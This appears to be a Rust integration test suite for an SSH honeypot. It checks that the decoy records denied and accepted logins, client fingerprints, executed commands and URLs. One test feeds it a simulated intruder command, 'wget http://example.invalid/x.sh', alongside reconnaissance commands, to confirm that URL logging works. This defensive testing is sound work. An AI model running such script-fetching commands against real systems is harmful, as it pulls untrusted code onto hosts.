//! The SSH and telnet honeypots against real clients: Debian's OpenSSH `ssh`
//! (driven by `sshpass`), `ssh-keyscan`, `ssh-keygen`, `nmap` and `telnet`
//! under `expect`. The tools are required (CI installs them); a missing one
//! fails the test.

mod common;

use std::process::{Command, Output, Stdio};

use common::Decky;
use serde_json::Value;

fn tool(name: &str) -> Command {
    let found = Command::new("sh")
        .args(["-c", &format!("command -v {name}")])
        .output()
        .is_ok_and(|o| o.status.success());
    assert!(
        found,
        "{name} is required for this test (apt-get install openssh-client sshpass expect telnet nmap)"
    );
    let mut c = Command::new("timeout");
    c.arg("30").arg(name).stdin(Stdio::null());
    c
}

const SSH_OPTS: &[&str] = &[
    "-o",
    "StrictHostKeyChecking=no",
    "-o",
    "UserKnownHostsFile=/dev/null",
    "-o",
    "ConnectTimeout=10",
    "-o",
    "LogLevel=ERROR",
    "-o",
    "BatchMode=no",
];

/// `sshpass -p <pass> ssh … user@127.0.0.1 [cmd]`.
fn ssh(d: &Decky, user: &str, pass: &str, extra: &[&str], cmd: Option<&str>) -> Output {
    let mut c = tool("sshpass");
    c.args(["-p", pass, "ssh"])
        .args(SSH_OPTS)
        .args(["-p", &d.port.to_string()])
        .args(extra)
        .arg(format!("{user}@127.0.0.1"));
    if let Some(cmd) = cmd {
        c.arg(cmd);
    }
    c.output().expect("run ssh")
}

fn text(b: &[u8]) -> String {
    String::from_utf8_lossy(b).into_owned()
}

fn of_kind<'a>(events: &'a [Value], kind: &str) -> Vec<&'a Value> {
    events.iter().filter(|e| e["kind"] == kind).collect()
}

#[test]
fn wrong_password_is_denied_and_recorded() {
    let d = Decky::serve("ssh", None);
    let out = ssh(
        &d,
        "root",
        "hunter2",
        &["-o", "PubkeyAuthentication=no"],
        Some("id"),
    );
    assert!(!out.status.success());
    assert!(
        text(&out.stderr).contains("Permission denied"),
        "stderr: {}",
        text(&out.stderr)
    );
    let ev = d.session_events();
    let client = of_kind(&ev, "client");
    assert_eq!(client.len(), 1, "{ev:?}");
    assert!(client[0]["details"]["client_version"]
        .as_str()
        .is_some_and(|v| v.starts_with("SSH-2.0-OpenSSH_")));
    let hassh = client[0]["details"]["fingerprint"]
        .as_str()
        .unwrap_or_default();
    assert!(
        hassh.starts_with("hassh:") && hassh.len() == 6 + 32,
        "{hassh}"
    );
    let auth = of_kind(&ev, "auth");
    assert!(!auth.is_empty());
    assert_eq!(auth[0]["details"]["username"], "root");
    assert_eq!(auth[0]["details"]["password"], "hunter2");
    assert_eq!(auth[0]["details"]["method"], "password");
    assert_eq!(auth[0]["details"]["accepted"], false);
}

#[test]
fn accepted_login_runs_commands_and_records_urls() {
    let d = Decky::serve("ssh", Some(r#"{"users": "root:toor"}"#));
    let out = ssh(
        &d,
        "root",
        "toor",
        &["-o", "PubkeyAuthentication=no"],
        Some("uname -a; id; wget http://example.invalid/x.sh"),
    );
    let stdout = text(&out.stdout);
    assert!(
        stdout.contains("Linux decoy-host 5.15.0-91-generic"),
        "stdout: {stdout} stderr: {}",
        text(&out.stderr)
    );
    assert!(stdout.contains("uid=0(root) gid=0(root) groups=0(root)"));
    let ev = d.session_events();
    let auth = of_kind(&ev, "auth");
    assert_eq!(
        auth.last().map(|a| &a["details"]["accepted"]),
        Some(&Value::Bool(true))
    );
    let exec = of_kind(&ev, "exec");
    assert_eq!(
        exec[0]["details"]["command"],
        "uname -a; id; wget http://example.invalid/x.sh"
    );
    let cmds: Vec<_> = of_kind(&ev, "command")
        .iter()
        .map(|e| {
            e["details"]["command"]
                .as_str()
                .unwrap_or_default()
                .to_owned()
        })
        .collect();
    assert_eq!(cmds, ["uname -a", "id", "wget http://example.invalid/x.sh"]);
    let urls = of_kind(&ev, "url");
    assert_eq!(urls.len(), 1);
    assert_eq!(urls[0]["details"]["url"], "http://example.invalid/x.sh");
}

#[test]
fn every_cipher_and_kex_completes() {
    let d = Decky::serve("ssh", Some(r#"{"accept": "any"}"#));
    for (opt, alg) in [
        ("Ciphers", "chacha20-poly1305@openssh.com"),
        ("Ciphers", "aes128-gcm@openssh.com"),
        ("Ciphers", "aes256-gcm@openssh.com"),
        ("KexAlgorithms", "curve25519-sha256"),
        ("KexAlgorithms", "curve25519-sha256@libssh.org"),
        ("KexAlgorithms", "ecdh-sha2-nistp256"),
        ("KexAlgorithms", "ecdh-sha2-nistp384"),
    ] {
        let o = format!("{opt}={alg}");
        let out = ssh(
            &d,
            "admin",
            "x",
            &["-o", &o, "-o", "PubkeyAuthentication=no"],
            Some("whoami"),
        );
        assert_eq!(text(&out.stdout), "admin\n", "{alg}: {}", text(&out.stderr));
        let _ = d.session_events();
    }
}
